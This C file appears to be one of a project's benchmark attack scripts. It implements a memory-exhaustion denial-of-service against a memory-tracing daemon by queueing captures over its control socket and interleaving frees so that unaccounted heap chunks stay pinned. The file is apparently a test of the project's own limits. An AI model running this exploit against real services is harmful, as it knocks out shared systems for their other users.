/*
 * view_pin.c - (hostile9) capture views pin copies of the block table that
 * no bound charges. A capture (traceback/top/snapshot) takes a view sharing
 * the heap's 64 KiB chunks; the view is released only when its job starts on
 * the thread pool. While the pool is busy (another job of the same user: a
 * big exit snapshot), each capture taken, then a few thousand frees spread
 * over the table, leaves one more full generation of chunks alive:
 * capture_memory() does not count the view, queued_snapshot_bytes neither.
 *
 * Build: cc -O2 -Iproto -o /tmp/view_pin bench/attacks/view_pin.c /tmp/b-hostile9/.libs/libproto.a
 * Run (as the attacker): setpriv --reuid=65534 --regid=65534 --clear-groups \
 *          /tmp/view_pin RUNDIR [BLOCKS=2000000] [CONNS=16] [FREES=8000]
 * Start 4 busy jobs first (bench/attacks/frame_leak RUNDIR 8192 1 BASE, x4),
 * then watch VmRSS of memtraced.
 */
#define _GNU_SOURCE
#include "attack.h"

int main(int argc, char **argv)
{
	const char *dir = argv[1];
	uint32_t B = argc > 2 ? (uint32_t)atoi(argv[2]) : 2000000;
	int conns = argc > 3 ? atoi(argv[3]) : 16;
	uint32_t F = argc > 4 ? (uint32_t)atoi(argv[4]) : 8000;
	struct attack_region r;

	attack_region_new(&r);
	for (uint32_t i = 0; i < B; i++)
		attack_event(&r, PROTO_EV_ALLOC, 0x10000000 + (uint64_t)i * 64, 64, 0);
	attack_publish(&r);
	int fd = attack_hello(dir, "/bin/viewpin", &r);
	uint8_t wake[8];
	proto_empty_encode(wake, sizeof wake, PROTO_WAKE);
	send(fd, wake, 8, MSG_NOSIGNAL);
	sleep(3); /* the daemon reads the allocations */
	uint32_t freed = 0;
	for (int k = 0; k < conns; k++) {
		int cc = attack_connect(dir, "control.sock");
		char req[128];
		int n = snprintf(req, sizeof req, "{\"cmd\":\"%s\",\"pid\":%d}\n",
		                 k % 2 ? "top" : "traceback", (int)getpid());
		if (send(cc, req, (size_t)n, MSG_NOSIGNAL) != n)
			return 1;
		usleep(50000); /* the capture is taken */
		/* frees spread over the table: a chunk copy each in the heap */
		uint64_t stride = B / F;
		for (uint32_t j = 0; j < F && freed < B; j++, freed++) {
			uint64_t idx = ((uint64_t)k + (uint64_t)j * stride * 7919) % B;
			attack_event(&r, PROTO_EV_FREE, 0x10000000 + idx * 64, 0, 0);
			attack_event(&r, PROTO_EV_ALLOC, 0x10000000 + idx * 64, 64, 0);
		}
		attack_publish(&r);
		send(fd, wake, 8, MSG_NOSIGNAL);
		usleep(200000);
		/* cc stays open, unread */
	}
	printf("view_pin: %u blocks, %d captures, %u frees+allocs\n", B, conns, freed);
	fflush(stdout);
	sleep(30);
	return 0;
}
